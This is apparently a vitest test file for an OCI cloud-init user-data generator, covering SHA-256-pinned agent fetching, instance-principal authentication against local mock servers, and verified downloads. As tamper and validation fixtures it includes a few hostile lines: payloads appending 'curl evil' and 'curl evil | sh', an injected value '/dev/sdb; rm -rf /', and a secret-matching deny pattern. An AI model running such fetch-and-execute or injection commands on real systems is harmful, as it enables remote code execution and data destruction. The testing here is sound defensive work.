// The cloud-init user data: asserted on its text, its agent config parsed by the agent's own
// parser, its boot-time fetcher run for real (plain node, no node_modules) against the OCI test
// server, with an API key and with an instance principal (IMDS and auth service on 127.0.0.1),
// and its verified download (bash) run against a local HTTP server.
import { execFile, execFileSync, spawnSync } from "child_process";
import * as crypto from "crypto";
import * as fs from "fs";
import * as fsp from "fs/promises";
import * as http from "http";
import { builtinModules } from "module";
import * as os from "os";
import * as path from "path";
import { Readable } from "stream";
import { promisify } from "util";
import * as zlib from "zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { buildAgentBundle, bundleEntry } from "../../components/hydration/agent/bundle";
import { parseAgentConfig } from "../../components/hydration/agent/config";
import { instancePrincipal, sign } from "../../components/hydration/agent/boot-auth";
import { AGENT_NODE_MAJOR, agentObjectKey, encodeUserData, OCI_METADATA_LIMIT_BYTES, renderHydrationUserData, UserDataError, type HydrationUserDataArgs } from "../../components/hydration/userdata";
import { OciStore } from "../../components/transfer/oci-store";
import { nodeEnv, startHydrationFixture, type HydrationFixture } from "../support/hydration-fixture";
import { OciObjectStorageServer } from "../support/oci-objectstorage-server";
import { verifyOciRequest } from "../support/oci-signature";

const execFileAsync = promisify(execFile);
const ARGS: HydrationUserDataArgs = { region: "eu-frankfurt-1", namespace: "acmens", bucket: "tundra-acme-prod", prefix: "warehouse/", dataDevice: "/dev/oracleoci/oraclevdb" };

interface WriteFile { path: string; content: string; encoding?: string; permissions: string }

function files(userData: string): Map<string, string> {
  const doc = parseYaml(userData) as { write_files: WriteFile[]; runcmd: unknown[] };
  return new Map(doc.write_files.map((f) => [f.path, f.encoding === "gz+b64" ? zlib.gunzipSync(Buffer.from(f.content, "base64")).toString() : f.content]));
}

describe("hydration user data", () => {
  const bundle = buildAgentBundle();
  const userData = renderHydrationUserData(ARGS, bundle);
  const written = files(userData);

  it("is cloud-config that writes the agent config the agent's own parser accepts", () => {
    expect(userData.startsWith("#cloud-config\n")).toBe(true);
    const config = parseAgentConfig(written.get("/etc/tundra/hydration-agent.json")!, "rendered");
    expect(config).toMatchObject({
      region: "eu-frankfurt-1", namespace: "acmens", bucket: "tundra-acme-prod", prefix: "warehouse/",
      controlPrefix: "_tundra/hydration/", dataRoot: "/mnt/tundra", auth: "instance_principal", requireMountPoint: true,
      node: { fromInstanceMetadata: "displayName" },
    });
    const named = parseAgentConfig(files(renderHydrationUserData({ ...ARGS, node: "tundra-acme-prod-0", dataRoot: "/data" }, bundle)).get("/etc/tundra/hydration-agent.json")!);
    expect(named.node).toBe("tundra-acme-prod-0");
    expect(named.dataRoot).toBe("/data");
  });

  it("installs Node.js 22 LTS from the OS repositories and fetches the SHA-256-pinned agent: no npm, no registry", () => {
    const install = written.get("/opt/tundra-hydration/prepare.sh")!;
    expect(AGENT_NODE_MAJOR).toBe(22);
    expect(install).toContain("dnf -y -q module enable nodejs:22\n  dnf -y -q install nodejs");
    expect(install).toContain(`node fetch-agent.js '/etc/tundra/hydration-agent.json' '${agentObjectKey("_tundra/hydration/", bundle.sha256)}' '${bundle.sha256}'`);
    expect(crypto.createHash("sha256").update(bundle.script).digest("hex")).toBe(bundle.sha256);
    expect([...written.keys()].sort()).toEqual([
      "/etc/systemd/system/tundra-hydration-agent.service", "/etc/tundra/hydration-agent.json",
      "/opt/tundra-hydration/fetch-agent.js", "/opt/tundra-hydration/prepare.sh",
    ]);
    expect(written.get("/opt/tundra-hydration/fetch-agent.js")).toBe(bundle.fetchScript);
    // Nothing a node runs at boot names npm, a registry or an end-of-life Node.js.
    for (const [name, text] of [["user data", userData], ...written] as [string, string][]) {
      expect(text, name).not.toMatch(/\bnpm\b|registry\.npmjs|npmjs\.org|nodejs:20|yarnpkg|unpkg/);
    }
    // The only places anything boots from: the instance metadata service, the region's auth
    // service and Object Storage (the last two through the service gateway).
    const urls = [userData, ...written.values()].flatMap((t) => t.match(/https?:\/\/[^\s"'`]+/g) ?? []);
    expect(urls.length).toBeGreaterThan(0);
    for (const url of urls) expect(url).toMatch(/^(http:\/\/169\.254\.169\.254\/opc\/v2\/|https:\/\/(auth|objectstorage)\.\$\{)/);

    const unit = written.get("/etc/systemd/system/tundra-hydration-agent.service")!;
    expect(unit).toContain("ExecStartPre=+/opt/tundra-hydration/prepare.sh");
    expect(unit).toContain("StartLimitIntervalSec=0");
    expect(unit).toContain("ExecStart=/usr/bin/env node --single-threaded-gc /opt/tundra-hydration/agent.js --config /etc/tundra/hydration-agent.json");
    expect(unit).toContain("Restart=always");
    // V8's code of the bundle kept between starts, in a directory the unit's user can write.
    expect(unit).toContain("CacheDirectory=tundra-hydration-agent\nEnvironment=NODE_COMPILE_CACHE=/var/cache/tundra-hydration-agent\n");
    expect(unit).toContain("User=tundra-hydration");
    expect(unit).toContain("ReadWritePaths=/mnt/tundra");
    expect(userData).toContain("[systemctl, enable, --now, tundra-hydration-agent.service]");
    // The scripts parse as bash (syntax only: they need a real node to run).
    expect(() => execFileSync("bash", ["-n"], { input: install })).not.toThrow();
    expect(install).toContain("dev='/dev/oracleoci/oraclevdb'");
    expect(install).toMatch(/if \[ "\$probe" -eq 2 \]; then mkfs\.xfs/);
    expect(install).toContain("chown tundra-hydration: \"$root\"");
    expect(files(renderHydrationUserData({ ...ARGS, dataDevice: undefined }, bundle)).get("/opt/tundra-hydration/prepare.sh")).not.toContain("mkfs");
  });

  it("ships the agent and the fetcher as self-contained scripts: they require Node built-ins only", () => {
    for (const [name, script] of [["agent", bundle.script], ["fetcher", bundle.fetchScript]] as const) {
      // Module requires only: es6-promise's `Function('return this')().require('vertx')` reads a global, not a module.
      const required = new Set([...script.matchAll(/(?<![.\w$])require\("([^"]+)"\)/g)].map((m) => m[1].replace(/^node:/, "")));
      // node-fetch's optional `encoding`, required inside a try/catch (bundle.ts, OPTIONAL_MISSING).
      const packages = [...required].filter((r) => !builtinModules.includes(r) && r !== "encoding");
      expect(packages, name).toEqual([]);
    }
    // No dynamic import(): in a CommonJS script it starts Node's ES module loader (a dozen more
    // internal modules compiled at every start) for what a require does.
    expect(bundle.script).not.toMatch(/(?<![\w$.])import\(/);
    expect(Object.keys(bundle.bundledPackages)).toEqual(expect.arrayContaining(["oci-common", "oci-objectstorage", "zod"]));
    expect(bundle.bundledPackages["oci-common"]).toBe(require("oci-common/package.json").version);
  });

  it("refuses to build a bundle that would need a package at run time", async () => {
    const dir = await fsp.mkdtemp(path.join(os.tmpdir(), "bundle-guard-"));
    try {
      // esbuild leaves a require it cannot resolve inside a try/catch outside the bundle: a node would need it installed.
      const entry = path.join(dir, "entry.ts");
      await fsp.writeFile(entry, `let x: unknown;\ntry { x = require("no-such-package-on-nodes"); } catch {}\nexport const y = x;\n`);
      expect(() => bundleEntry(entry)).toThrow(/imports left outside: no-such-package-on-nodes\. Nodes install no packages/);
      await fsp.writeFile(entry, `import * as crypto from "node:crypto";\nexport const h = crypto.createHash("sha256");\n`);
      expect(bundleEntry(entry).external).toEqual(["crypto"]);
    } finally {
      await fsp.rm(dir, { recursive: true, force: true });
    }
  });

  it("runs the agent bundle with plain node from a directory with no node_modules", async () => {
    const dir = await fsp.mkdtemp(path.join(os.tmpdir(), "agent-alone-"));
    try {
      await fsp.writeFile(path.join(dir, "agent.js"), bundle.script);
      // Every module of the bundle is loaded before the arguments are read: the usage error proves they all resolved.
      const r = spawnSync(process.execPath, [path.join(dir, "agent.js"), "--no-such-flag"], { cwd: dir, env: nodeEnv(), encoding: "utf8", timeout: 30_000 });
      expect(r.stderr).toBe("");
      expect(r.stdout).toContain('Unknown argument "--no-such-flag". Usage: agent.js [--config FILE] [--once]');
      expect(r.status).toBe(2);
      const missing = spawnSync(process.execPath, [path.join(dir, "agent.js"), "--config", path.join(dir, "absent.json")], { cwd: dir, env: nodeEnv(), encoding: "utf8", timeout: 30_000 });
      expect(missing.stdout).toContain("absent.json");
      expect(missing.stdout).not.toMatch(/Cannot find module/);
    } finally {
      await fsp.rm(dir, { recursive: true, force: true });
    }
  });

  it("carries no keys or secrets and authenticates with the instance principal only", () => {
    const everything = [userData, ...written.values()].join("\n");
    expect(everything).not.toMatch(/PRIVATE KEY|ssh_authorized_keys|ssh-rsa|key_file=|fingerprint=|aws_secret|password/i);
    expect(JSON.parse(written.get("/etc/tundra/hydration-agent.json")!).auth).toBe("instance_principal");
  });

  it("fits OCI's 32,000-byte metadata limit, and is deterministic and checkout-independent", () => {
    expect(encodeUserData(userData).length).toBeLessThan(OCI_METADATA_LIMIT_BYTES - 1000);
    expect(renderHydrationUserData(ARGS, buildAgentBundle())).toBe(userData);
    // No absolute path of this checkout in what nodes run: the SHA-256 pin is the same everywhere.
    const root = path.resolve(__dirname, "../..");
    for (const text of [userData, bundle.script, bundle.fetchScript]) expect(text).not.toContain(root);
    process.stdout.write(`user data ${encodeUserData(userData).length} bytes base64; agent bundle ${bundle.script.length} bytes (${zlib.gzipSync(bundle.script).length} gzipped); fetcher ${bundle.fetchScript.length} bytes\n`);
  });

  it("rejects bad settings by name before anything is deployed", () => {
    expect(() => renderHydrationUserData({ ...ARGS, region: "frankfurt" }, bundle)).toThrow(/region: must be an OCI region identifier/);
    expect(() => renderHydrationUserData({ ...ARGS, prefix: "" }, bundle)).toThrow(/controlPrefix: overlaps prefix/);
    expect(() => renderHydrationUserData({ ...ARGS, prefix: "_tundra/" }, bundle)).toThrow(UserDataError);
    expect(() => renderHydrationUserData({ ...ARGS, node: "bad name" }, bundle)).toThrow(/node: must be 1-63 characters/);
    expect(() => renderHydrationUserData({ ...ARGS, dataDevice: "/dev/sdb; rm -rf /" }, bundle)).toThrow(/dataDevice/);
    expect(() => renderHydrationUserData({ ...ARGS, nodeRuntime: { url: "http://nodejs.example/node.tar.xz", sha256: "a".repeat(64) } }, bundle)).toThrow(/nodeRuntime\.url .* must be an https URL/);
    expect(() => renderHydrationUserData({ ...ARGS, nodeRuntime: { url: "https://nodejs.example/node.tar.xz", sha256: "abc" } }, bundle)).toThrow(/nodeRuntime\.sha256 must be 64/);
  });
});

describe("agent config parser", () => {
  it("reports every problem at once, by field, and rejects unknown keys", () => {
    let err: Error | undefined;
    try {
      parseAgentConfig(JSON.stringify({ schemaVersion: 1, node: "a b", region: "x", namespace: "", bucket: "b", prefix: "/abs", dataRoot: "rel", pollSeconds: 0, sshKey: "no" }), "/etc/tundra/hydration-agent.json");
    } catch (e) {
      err = e as Error;
    }
    expect(err?.message).toContain("/etc/tundra/hydration-agent.json: invalid hydration agent config");
    for (const field of ["node:", "region:", "namespace:", "prefix:", "dataRoot:", "pollSeconds:", 'Unrecognized key: "sshKey"']) expect(err?.message).toContain(field);
    expect(() => parseAgentConfig("{not json", "cfg")).toThrow(/cfg: invalid hydration agent config:\n  - not valid JSON/);
  });
});

describe("boot-time agent fetch from the bucket", () => {
  let fx: HydrationFixture;
  const bundle = buildAgentBundle();
  const key = agentObjectKey("_tundra/hydration/", bundle.sha256);

  beforeAll(async () => {
    fx = await startHydrationFixture();
  });
  afterAll(() => fx?.close());

  async function runFetcher(sha: string, destination: string) {
    const dir = path.join(fx.dir, "boot");
    await fsp.mkdir(dir, { recursive: true });
    const rendered = files(renderHydrationUserData({ ...ARGS, namespace: fx.namespace, bucket: "tenant-bucket", region: "us-ashburn-1" }, bundle));
    // Same config as rendered, but API-key auth and the test endpoint instead of an instance principal.
    const config = { ...JSON.parse(rendered.get("/etc/tundra/hydration-agent.json")!), auth: { configFile: fx.ociConfigFile }, endpoint: fx.server.endpoint };
    await fsp.writeFile(path.join(dir, "config.json"), JSON.stringify(config));
    await fsp.writeFile(path.join(dir, "fetch-agent.js"), rendered.get("/opt/tundra-hydration/fetch-agent.js")!);
    return execFileAsync(process.execPath, [path.join(dir, "fetch-agent.js"), path.join(dir, "config.json"), key, sha, destination], {
      env: nodeEnv(), // plain node, as on a node: the fetcher resolves no package
    });
  }

  it("installs the agent bundle whose SHA-256 the user data pins, and refuses a tampered one", async () => {
    const root = new OciStore({ bucket: "tenant-bucket", namespace: fx.namespace, endpoint: fx.server.endpoint, auth: { kind: "config-file", file: fx.ociConfigFile } });
    const body = Buffer.from(bundle.script);
    await root.put(key, Readable.from([body]), { size: body.length, md5: crypto.createHash("md5").update(body).digest("hex") });
    const destination = path.join(fx.dir, "boot", "agent.js");
    const ok = await runFetcher(bundle.sha256, destination);
    expect(ok.stdout).toContain(`installed agent ${bundle.sha256.slice(0, 12)}`);
    expect(await fsp.readFile(destination, "utf8")).toBe(bundle.script);

    const tampered = Buffer.from(bundle.script + "\nrequire('child_process').execSync('curl evil');");
    await root.put(key, Readable.from([tampered]), { size: tampered.length, md5: crypto.createHash("md5").update(tampered).digest("hex") });
    const other = path.join(fx.dir, "boot", "agent-2.js");
    const refused = await runFetcher(bundle.sha256, other).catch((e) => e);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("refusing to install it");
    await expect(fsp.access(other)).rejects.toThrow();
    await expect(fsp.access(`${other}.download`)).rejects.toThrow();
  });
});

describe("boot-time fetch with the instance principal (IMDS v2 and the auth service on 127.0.0.1)", () => {
  const REGION = "us-ashburn-1";
  const TENANCY = "ocid1.tenancy.oc1..aaaaboottest";
  let dir: string;
  let imds: http.Server;
  let authService: http.Server;
  let objects: OciObjectStorageServer;
  const keys = new Map<string, crypto.KeyObject>();
  const federations: { keyId: string; payload: Record<string, unknown> }[] = [];
  let leafPem: string;
  let intermediatePem: string;

  const listen = (server: http.Server) => new Promise<string>((resolve) => server.listen(0, "127.0.0.1", () => resolve(`http://127.0.0.1:${(server.address() as { port: number }).port}`)));
  const bare = (pem: string) => pem.replace(/-----(BEGIN|END) [A-Z ]+-----/g, "").replace(/\s+/g, "");

  beforeAll(async () => {
    dir = await fsp.mkdtemp(path.join(os.tmpdir(), "boot-ip-"));
    // The instance's identity as IMDS hands it out: a leaf certificate naming the tenancy, its key, an intermediate.
    const cert = (name: string, subject: string) => {
      execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", subject, "-keyout", path.join(dir, `${name}.key`), "-out", path.join(dir, `${name}.pem`)], { stdio: "ignore" });
      return fs.readFileSync(path.join(dir, `${name}.pem`), "utf8");
    };
    leafPem = cert("leaf", `/CN=ocid1.instance.oc1.iad.bootnode/OU=opc-certtype:instance/OU=opc-compartment:ocid1.compartment.oc1..c/OU=opc-tenant:${TENANCY}`);
    intermediatePem = cert("intermediate", "/CN=PKISVC Identity Intermediate r2");
    const leafKeyPem = fs.readFileSync(path.join(dir, "leaf.key"), "utf8");
    imds = http.createServer((req, res) => {
      const body = { "/opc/v2/identity/cert.pem": leafPem, "/opc/v2/identity/key.pem": leafKeyPem, "/opc/v2/identity/intermediate.pem": intermediatePem }[req.url ?? ""];
      if (req.headers.authorization !== "Bearer Oracle") res.writeHead(401).end(); // IMDS v2 wants the header
      else res.writeHead(body ? 200 : 404).end(body ?? "");
    });
    // The auth service, verifying the federation request as OCI does: signed with the leaf key,
    // keyId "<tenancy>/fed-x509/<SHA-1 fingerprint>", the body covered by x-content-sha256.
    const sshpk = require("sshpk");
    const fedKeyId = `${TENANCY}/fed-x509/${sshpk.parseCertificate(leafPem, "pem").fingerprint("sha1").toString("hex")}`;
    const fedKeys = new Map([[fedKeyId, new crypto.X509Certificate(leafPem).publicKey]]);
    authService = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on("data", (c: Buffer) => chunks.push(c));
      req.on("end", () => {
        const body = Buffer.concat(chunks);
        const check = verifyOciRequest(req, body, fedKeys);
        const signed = /headers="([^"]+)"/.exec(req.headers.authorization ?? "")?.[1];
        if (!check.ok || req.method !== "POST" || req.url !== "/v1/x509" || signed !== "date (request-target) host content-type content-length x-content-sha256") {
          res.writeHead(401, { "content-type": "application/json" }).end(JSON.stringify({ code: "NotAuthenticated", message: check.ok ? "wrong request" : check.reason }));
          return;
        }
        const payload = JSON.parse(body.toString("utf8")) as { publicKey: string };
        federations.push({ keyId: check.keyId, payload });
        const token = `token-${federations.length}`;
        keys.set(`ST$${token}`, crypto.createPublicKey({ key: Buffer.from(payload.publicKey, "base64"), format: "der", type: "spki" }));
        res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ token }));
      });
    });
    objects = new OciObjectStorageServer({ buckets: ["tenant-bucket"], publicKeys: keys, idleTimeoutMs: 120_000 });
    await objects.start();
  });
  afterAll(async () => {
    imds?.close();
    authService?.close();
    await objects?.close();
    await fsp.rm(dir, { recursive: true, force: true });
  });

  it("exchanges the instance certificate for a session token as the SDK does, and reads the bucket with it", async () => {
    const [imdsUrl, authUrl] = await Promise.all([listen(imds), listen(authService)]);
    const signing = await instancePrincipal(REGION, { imds: `${imdsUrl}/opc/v2/`, auth: authUrl });
    expect(signing.keyId).toBe("ST$token-1");
    expect(federations).toHaveLength(1);
    expect(federations[0].payload).toEqual({
      certificate: bare(leafPem),
      purpose: "DEFAULT",
      publicKey: expect.stringMatching(/^MII[A-Za-z0-9+/=]+$/),
      intermediateCertificates: [bare(intermediatePem)],
    });
    // The session key signs an Object Storage GET that the test server (verifying like OCI) accepts.
    const url = `${objects.endpoint}/n/${objects.namespace}/b/tenant-bucket/o/${encodeURIComponent("_tundra/hydration/agent/x.js")}`;
    const headers: Record<string, string> = { "x-date": new Date().toUTCString() };
    sign(signing, "GET", url, headers, ["x-date", "(request-target)", "host"]);
    const res = await fetch(url, { headers });
    expect(res.status).toBe(404); // signed correctly, object absent: authenticated, not found
    expect(((await res.json()) as { code: string }).code).toBe("ObjectNotFound");
    const forged = await fetch(url, { headers: { ...headers, authorization: headers.authorization.replace("token-1", "token-9") } });
    expect(forged.status).toBe(401);
  });
});

describe("verified download in the user data's bash (fetch_verified), against a local HTTP server", () => {
  const tarball = crypto.randomBytes(64 * 1024);
  const sha = crypto.createHash("sha256").update(tarball).digest("hex");
  let served = tarball;
  let server: http.Server;
  let base: string;
  let dir: string;
  const rendered = files(renderHydrationUserData({ ...ARGS, nodeRuntime: { url: "https://objectstorage.eu-frankfurt-1.oraclecloud.com/p/par/n/acmens/b/tundra-acme-prod/o/node-v22-linux-x64.tar.xz", sha256: sha } })).get("/opt/tundra-hydration/prepare.sh")!;

  beforeAll(async () => {
    dir = await fsp.mkdtemp(path.join(os.tmpdir(), "fetch-verified-"));
    server = http.createServer((req, res) => (req.url === "/node.tar" ? res.writeHead(200).end(served) : res.writeHead(404).end()));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  afterAll(async () => {
    server?.close();
    await fsp.rm(dir, { recursive: true, force: true });
  });

  /** The rendered function, run as prepare.sh runs it (bash, set -euo pipefail); async: the server is in this process. */
  async function fetchVerified(url: string, pinned: string, dest: string): Promise<{ status: number; stderr: string }> {
    const fn = /^fetch_verified\(\) \{\n[\s\S]*?\n\}$/m.exec(rendered)![0];
    return execFileAsync("bash", ["-c", `set -euo pipefail\n${fn}\nfetch_verified "$@"`, "bash", url, pinned, dest], { encoding: "utf8", timeout: 30_000 })
      .then((r) => ({ status: 0, stderr: r.stderr }), (e: { code: number; stderr: string }) => ({ status: e.code, stderr: e.stderr }));
  }

  it("installs Node.js from the pinned tarball instead of dnf when nodeRuntimeUrl is set", () => {
    expect(rendered).toContain(`fetch_verified 'https://objectstorage.eu-frankfurt-1.oraclecloud.com/p/par/n/acmens/b/tundra-acme-prod/o/node-v22-linux-x64.tar.xz' '${sha}' /opt/tundra-hydration/node.tar`);
    expect(rendered).not.toContain("dnf");
    expect(() => execFileSync("bash", ["-n"], { input: rendered })).not.toThrow();
  });

  it("keeps what matches the pinned SHA-256 and fails closed on anything else", async () => {
    const dest = path.join(dir, "node.tar");
    served = tarball;
    const ok = await fetchVerified(`${base}/node.tar`, sha, dest);
    expect(ok.status, ok.stderr).toBe(0);
    expect(await fsp.readFile(dest)).toEqual(tarball);

    const other = path.join(dir, "node-2.tar");
    served = Buffer.concat([tarball, Buffer.from("#!/bin/sh\ncurl evil | sh\n")]);
    const refused = await fetchVerified(`${base}/node.tar`, sha, other);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`pinned ${sha}: refusing it`);
    expect(fs.existsSync(other)).toBe(false);
    expect(fs.existsSync(`${other}.download`)).toBe(false);

    const missing = await fetchVerified(`${base}/absent`, sha, other);
    expect(missing.status).toBe(1);
    expect(missing.stderr).toContain("cannot download");
    expect(fs.existsSync(other)).toBe(false);
  });
});
